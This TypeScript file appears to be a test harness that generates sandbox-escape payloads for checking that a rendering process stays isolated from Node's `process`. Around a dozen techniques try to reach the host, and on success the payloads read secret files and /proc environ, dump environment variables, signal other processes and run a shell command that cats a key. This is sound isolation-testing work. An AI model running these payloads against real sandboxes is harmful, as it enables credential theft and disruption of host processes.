/** What code of a release tries to reach, all of it outside its rendering process. */
export interface AttackTargets {
  /** A file with a secret. */
  readonly key: string
  /** Where it tries to leave a file. */
  readonly drop: string
  /** Port of a server on this machine. */
  readonly port: number
  /** Another process on this machine. */
  readonly pid: number
}

/** Tries everything with each object that may be Node's `process`, and records successes in `found`. */
const useProcess = ({ key, drop, port, pid }: AttackTargets): string => `
const found = []
const used = new Set()
function use(candidate) {
  try { if (!candidate || used.has(candidate) || typeof candidate.getBuiltinModule !== 'function') return } catch { return }
  used.add(candidate)
  const attempt = (work) => { try { const got = work(); if (got) found.push(String(got)) } catch {} }
  const builtin = (name) => candidate.getBuiltinModule(name)
  attempt(() => builtin('fs').readFileSync(${JSON.stringify(key)}, 'utf8'))
  attempt(() => builtin('fs').readFileSync('/proc/' + candidate.ppid + '/environ', 'utf8'))
  attempt(() => builtin('fs').readFileSync('/proc/${pid}/environ', 'utf8'))
  attempt(() => Object.values(candidate.env).join())
  attempt(() => builtin('fs').writeFileSync(${JSON.stringify(drop)}, 'dropped'))
  attempt(() => { builtin('net').connect(${port}, '127.0.0.1').on('error', () => {}) })
  attempt(() => { builtin('dgram').createSocket('udp4').send('x', 9, '127.0.0.1', () => {}) })
  for (const signal of ['SIGUSR1', 'SIGTERM']) attempt(() => candidate.kill(${pid}, signal))
  attempt(() => { candidate._debugProcess(${pid}) })
  attempt(() => { builtin('inspector').open(0) })
  attempt(() => builtin('child_process').execFileSync('/bin/sh', ['-c', 'kill -TERM ${pid}; cat ${key}; touch ${drop}']))
  attempt(() => { new (builtin('worker_threads').Worker)('process.kill(${pid})', { eval: true }) })
  attempt(() => candidate.binding('fs').internalModuleStat && candidate.binding('spawn_sync'))
}
/** Everything that can be reached from a value, as far as it goes. */
function walk(root) {
  const queue = [root]
  const known = new Set()
  while (queue.length > 0 && known.size < 20000) {
    const value = queue.shift()
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || known.has(value)) continue
    known.add(value)
    use(value)
    try {
      queue.push(Object.getPrototypeOf(value))
      for (const name of Reflect.ownKeys(value)) {
        const own = Object.getOwnPropertyDescriptor(value, name)
        if ('value' in own) queue.push(own.value)
        else {
          queue.push(own.get, own.set)
          try { queue.push(value[name]) } catch {}
        }
      }
    } catch {}
  }
}
const compile = (maker) => { try { use(maker.constructor.constructor('return process')()) } catch {} }
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
`

/** Ways to reach Node's `process`, each the body of an async function. */
const ways: Readonly<Record<string, string>> = {
  'the stream behind console, and an emit that is replaced': `
    const stream = console._stdout
    let proto = stream
    for (let next = stream; next && next !== Object.prototype; next = Object.getPrototypeOf(next)) {
      proto = next
      if (Object.hasOwn(next, 'emit')) break
    }
    const { emit } = proto ?? {}
    if (!emit) return
    proto.emit = function (...all) { use(this); return emit.apply(this, all) }
    Promise.reject(0)
    await pause(100)`,
  'prototypes of console': `
    walk(console)
    for (const name of Reflect.ownKeys(console)) {
      const { value } = Object.getOwnPropertyDescriptor(console, name) ?? {}
      if (typeof value === 'function') compile(value)
    }
    console.log({ toString() { compile(this) }, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { compile(options); compile(inspect); walk(inspect) } })`,
  'what intrinsics are called with': `
    const { call, apply, bind } = Function.prototype
    const spy = (owner, name) => {
      const original = owner[name]
      try { owner[name] = function (...all) { use(this); for (const one of all) use(one); return Reflect.apply(original, this, all) } } catch {}
    }
    for (const name of ['call', 'apply', 'bind']) spy(Function.prototype, name)
    for (const name of ['push', 'shift', 'map', 'forEach', 'slice', 'includes', Symbol.iterator]) spy(Array.prototype, name)
    for (const name of ['get', 'set', 'has', 'delete']) { spy(Map.prototype, name); spy(WeakMap.prototype, name) }
    for (const name of ['then', 'catch', 'finally']) spy(Promise.prototype, name)
    Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { use(this); return undefined } })
    Object.defineProperty(Object.prototype, 'emit', { configurable: true, get() { use(this); return undefined }, set(value) { use(this) } })
    await pause(50)
    delete Object.prototype.then
    delete Object.prototype.emit`,
  'frames of a stack': `
    const look = (error, sites) => {
      for (const site of sites) {
        for (const name of ['getThis', 'getFunction', 'getTypeName', 'getEvalOrigin']) {
          try { const got = site[name]?.(); use(got); walk(got); compile(got) } catch {}
        }
        compile(site)
      }
      compile(sites)
      return ''
    }
    for (const maker of [Error, TypeError]) { try { maker.prepareStackTrace = look } catch {} }
    try { Error.stackTraceLimit = 200 } catch {}
    void new Error('look').stack
    const deep = () => { try { deep() } catch (error) { compile(error); void error.stack } }
    deep()
    setTimeout(() => void new Error('timer').stack, 0)
    await pause(50)`,
  'bindings and modules that are built in': `
    use(globalThis.process)
    for (const name of ['binding', '_linkedBinding', 'getBuiltinModule', 'dlopen', '_debugProcess', 'mainModule', 'report'])
      try { walk(globalThis.process?.[name]) } catch {}
    for (const name of ['require', 'module', 'exports', 'internalBinding', 'primordials', 'global'])
      try { walk(globalThis[name]) } catch {}`,
  'threads and messages': `
    for (const name of ['Worker', 'MessageChannel', 'BroadcastChannel', 'SharedArrayBuffer'])
      try {
        const made = new globalThis[name]('data:text/javascript,1')
        compile(made)
        walk(made)
        made.port1.on('message', function () { use(this) })
        made.port2.postMessage(1)
      } catch (error) { compile(error) }
    await pause(50)`,
  WebAssembly: `
    const { WebAssembly: wasm } = globalThis
    if (!wasm) return
    compile(wasm)
    walk(wasm)
    try { await wasm.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) } catch (error) { compile(error) }
    try { await wasm.compileStreaming({}) } catch (error) { compile(error); walk(error) }`,
  loaders: `
    for (const name of ['node:process', 'process', 'fs', 'data:text/javascript,export default globalThis.process', '/proc/self/environ'])
      try {
        const load = (0, eval)
        use((await load('import(' + JSON.stringify(name) + ')')).default)
      } catch (error) { compile(error); walk(error) }
    try { new Function('return import("node:process")')().then(use, compile) } catch (error) { compile(error) }`,
  'symbols that all contexts share': `
    const custom = (...all) => { for (const one of all) { use(one); compile(one); walk(one) } return 'x' }
    const made = { [Symbol.for('nodejs.util.inspect.custom')]: custom, [Symbol.for('nodejs.util.promisify.custom')]: custom, [Symbol.toPrimitive]: custom, toJSON: custom, get message() { custom(this); return 'x' }, get stack() { custom(this); return 'x' } }
    Promise.reject(made)
    Promise.reject(new Proxy(made, { get(target, name, receiver) { custom(receiver); return target[name] }, getPrototypeOf(target) { custom(target); return null } }))
    await pause(50)
    setTimeout(() => { throw made }, 0)
    await pause(50)`,
  'getBuiltinModule from whatever can be reached': `
    walk(globalThis)`,
  'signals that abort, and events': `
    const { AbortController: maker, AbortSignal: signals, EventTarget: target } = globalThis
    for (const owner of [target?.prototype, signals?.prototype, maker?.prototype])
      for (const name of owner ? Reflect.ownKeys(owner) : [])
        try {
          const { value } = Object.getOwnPropertyDescriptor(owner, name)
          if (typeof value === 'function' && name !== 'constructor')
            owner[name] = function (...all) { use(this); for (const one of all) { use(one); walk(one) } return Reflect.apply(value, this, all) }
        } catch {}
    const controller = new maker()
    for (let at = 0; at < 20; at += 1) controller.signal.addEventListener('abort', function (event) { use(this); walk(event); compile(event) })
    controller.abort({ get message() { use(this); return 'x' } })
    compile(controller)
    compile(controller.signal)
    try { signals.timeout(1).addEventListener('abort', (event) => walk(event)) } catch {}
    await pause(50)`,
  'the inspector': `
    walk(globalThis.inspector)
    walk(globalThis.__inspector)
    walk(console.context)
    try { console.context('x').log(1); compile(console.context) } catch {}
    try { walk(globalThis.debug); walk(globalThis.__coverage__) } catch {}`,
}

/** The names of the attacks. */
export const attackNames: readonly string[] = Object.keys(ways)

/** The server half of a remote that attacks when loaded and again when rendering, and shows what it found. */
export const attackingHalf = (name: string, targets: AttackTargets): string => `
${useProcess(targets)}
const attack = async () => {${ways[name]}
}
await attack().catch(() => {})
const { createElement: h } = globalThis.qasimaModules.react
export const screens = {
  attack: async () => ({
    loader: () => attack().catch(() => {}),
    Component: () => h('h1', null, 'Attacked: ' + found.join(' | ')),
  }),
}
`
